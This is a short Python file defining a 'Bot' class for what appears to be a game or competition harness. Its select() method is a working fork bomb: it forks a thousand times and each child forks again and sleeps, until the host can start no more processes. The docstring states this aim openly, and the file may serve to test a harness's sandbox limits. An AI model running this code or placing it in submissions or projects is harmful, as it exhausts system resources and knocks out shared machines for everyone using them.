"""Forks, as its children do, until no process can be started any more."""

import os
import sys
import time

ENOUGH = 1_000


class Bot:
    def __init__(self, index):
        pass

    def select(self):
        for _ in range(ENOUGH):
            if os.fork() == 0:
                try:
                    os.fork()
                    os.fork()
                finally:
                    time.sleep(60)
        print("got", ENOUGH, "processes", file=sys.stderr)
        return 1

    def update(self, choices):
        pass
